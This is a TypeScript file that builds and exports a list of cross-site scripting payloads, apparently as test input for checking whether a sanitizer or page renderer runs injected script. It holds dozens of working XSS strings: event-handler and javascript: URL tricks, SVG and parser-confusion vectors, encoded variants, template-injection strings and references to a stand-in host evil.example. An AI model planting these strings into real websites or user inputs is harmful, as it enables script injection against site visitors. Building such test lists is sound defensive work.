/** What a payload calls when it runs; the watcher of a hostile page counts the calls. */
const call = 'alert(1)'

const elements = [
  `<script>${call}</script>`,
  `<ScRiPt >${call}</sCrIpT >`,
  `<script src=data:text/javascript,${call}></script>`,
  `<img src=x onerror=${call}>`,
  `<img src=x oNeRrOr="${call}"/>`,
  `<image href=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${call}>`,
  `<svg><a xlink:href="javascript:${call}"><text y=20>点</text></a></svg>`,
  `<svg><foreignObject><body onload=${call}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="data:text/html,<script>${call}</script>"></object>`,
  `<embed src="data:text/html,<script>${call}</script>">`,
  `<body onload=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}><summary>开</summary></details>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}></audio>`,
  `<marquee onstart=${call}>走</marquee>`,
  `<a href="javascript:${call}">链接</a>`,
  `<a href="java&#115;cript:${call}">链接</a>`,
  `<form action="javascript:${call}"><button>发</button></form>`,
  `<button formaction="javascript:${call}">发</button>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<div style="position:fixed;inset:0;background:url(https://evil.example/x)">盖</div>`,
  `<div onpointerover=${call} style=width:9999px>盖</div>`,
  `<template><img src=x onerror=${call}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<xss id=x tabindex=1 onfocus=${call}></xss>`,
] as const

/** Ways out of where a text may stand: an attribute, a cell, a comment, a script, a style. */
const exits = [
  (markup: string) => `">${markup}`,
  (markup: string) => `'/>--></td></table></title></textarea></style></script>${markup}`,
] as const

/** Not markup, but run, filled in or followed by something that takes text too seriously. */
const texts = [
  `javascript:${call}`,
  ` \tJaVaScRiPt:${call}`,
  `data:text/html,<script>${call}</script>`,
  `vbscript:msgbox(1)`,
  `" onmouseover="${call}" x="`,
  `' autofocus onfocus='${call}`,
  `\`;${call};//`,
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `{b}{c}{@[0]}{a|x}`,
  `<%= ${call} %>`,
  `expression(${call})`,
  `url(javascript:${call})`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;img src=x onerror=${call}&#62;`,
  `%3Cimg%20src%3Dx%20onerror%3D${call}%3E`,
  `\\u003cimg src=x onerror=${call}\\u003e`,
  `＜img src=x onerror=${call}＞`,
  `<<img src=x onerror=${call}//`,
  `<!--[if gte IE 4]><script>${call}</script><![endif]-->`,
  `<![CDATA[<script>${call}</script>]]>`,
  `\u202e<img src=x onerror=${call}>\u202c`,
  `\u2028${call}\u2029`,
  `__proto__`,
  `constructor`,
  `toString`,
  `=cmd()!A1`,
  `@SUM(1)`,
] as const

/** Texts by which somebody would try to run a script or draw a thing of their own; all distinct. */
export const xssPayloads: readonly string[] = [
  ...elements,
  ...exits.flatMap((exit) => elements.map(exit)),
  ...texts,
]
